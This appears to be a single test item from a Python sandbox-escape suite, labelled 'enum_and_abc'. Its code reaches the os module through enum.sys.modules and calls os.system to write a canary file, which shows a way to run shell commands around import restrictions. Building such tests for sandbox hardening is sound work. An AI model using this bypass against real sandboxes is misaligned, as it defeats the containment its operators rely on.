# id: 585
# name: enum_and_abc
# category: interpreter
# technique: enum.sys, abc and their metaclasses
# breach: file
# looks_like: CANARY_FILE is created
# imports: enum, abc
# baseline: inproc
import enum, abc
enum.sys.modules['os'].system('echo breach > ' + CANARY_FILE)
